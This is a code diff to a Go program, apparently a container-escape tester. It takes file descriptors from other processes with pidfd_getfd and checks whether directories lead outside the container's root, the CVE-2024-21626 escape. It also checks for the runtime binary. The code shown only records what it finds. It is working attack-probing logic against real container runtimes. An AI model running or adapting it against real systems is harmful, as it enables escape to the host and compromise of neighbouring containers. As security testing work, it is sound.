@@ -184,8 +184,10 @@ func (a *attack) attackDir(dir string, pid int) {
 // own) leads out of the container, the CVE-2024-21626 way out, unless it
 // is that of the process's own root: a process of another container
 // joining our pid namespace lives in a tree of its own, and whether its
-// root reaches the host is what probeHost finds out.
-func (a *attack) checkOutside(pid, n, fd int) {
+// root reaches the host is what probeHost finds out. ownBefore is that
+// root as it was before the fd was taken (ok false: unknown): a process
+// that exits right after shows no root any more.
+func (a *attack) checkOutside(pid, n, fd int, ownBefore unix.Stat_t, ok bool) {
 	var st unix.Stat_t
 	if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFDIR {
 		return
@@ -199,41 +201,36 @@ func (a *attack) checkOutside(pid, n, fd int) {
 	if err != nil {
 		return
 	}
-	for {
-		parent, err := unix.Openat(dir, "..", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
-		if err != nil {
-			break
-		}
-		var here, up unix.Stat_t
-		_ = unix.Fstat(dir, &here)
-		_ = unix.Fstat(parent, &up)
-		unix.Close(dir)
-		dir = parent
-		if here.Dev == up.Dev && here.Ino == up.Ino {
-			break
-		}
-	}
+	dir = topmost(dir)
 	defer unix.Close(dir)
-	var top, root, own unix.Stat_t
+	var top, root unix.Stat_t
 	_ = unix.Fstat(dir, &top)
 	_ = unix.Stat("/", &root)
-	ownRoot := root
-	if fd, err := unix.Open(fmt.Sprintf("/proc/%d/root", pid), unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
-		ownTop := topmost(fd)
-		if unix.Fstat(ownTop, &own) == nil {
-			ownRoot = own
-		}
-		unix.Close(ownTop)
-	}
-	if top.Dev == ownRoot.Dev && top.Ino == ownRoot.Ino && (top.Dev != root.Dev || top.Ino != root.Ino) {
+	same := func(x, y unix.Stat_t) bool { return x.Dev == y.Dev && x.Ino == y.Ino }
+	ownAfter, okAfter := rootTop(pid)
+	if !same(top, root) && (ok && same(top, ownBefore) || okAfter && same(top, ownAfter)) {
 		a.record("fd pid=%d fd=%d is a directory of the process's own tree", pid, n)
 		return
 	}
-	if top.Dev != root.Dev || top.Ino != root.Ino {
+	if !same(top, root) {
 		a.record("fd pid=%d fd=%d LEADS-OUTSIDE the container's root", pid, n)
 	} else {
 		a.record("fd pid=%d fd=%d is a directory of the container", pid, n)
 	}
+}
+
+// rootTop is the topmost ancestor of the process's root directory, as its
+// /proc entry shows it; false if that cannot be read.
+func rootTop(pid int) (unix.Stat_t, bool) {
+	var st unix.Stat_t
+	fd, err := unix.Open(fmt.Sprintf("/proc/%d/root", pid), unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+	if err != nil {
+		return st, false
+	}
+	top := topmost(fd)
+	defer unix.Close(top)
+	ok := unix.Fstat(top, &st) == nil
+	return st, ok
 }
 
 // isBinary tells whether fd is a regular file of the runtime binary's size.
@@ -251,6 +248,7 @@ func (a *attack) stealFD(pid, n int) {
 		return
 	}
 	defer unix.Close(pidfd)
+	ownRoot, known := rootTop(pid)
 	fd, err := unix.PidfdGetfd(pidfd, n, 0)
 	if err != nil {
 		a.record("pidfd_getfd pid=%d err=%s", pid, errName(err))
@@ -258,7 +256,7 @@ func (a *attack) stealFD(pid, n int) {
 	}
 	defer unix.Close(fd)
 	a.record("pidfd_getfd pid=%d fd=%d ok", pid, n)
-	a.checkOutside(pid, n, fd)
+	a.checkOutside(pid, n, fd, ownRoot, known)
 	if !a.isBinary(fd) {
 		return
 	}
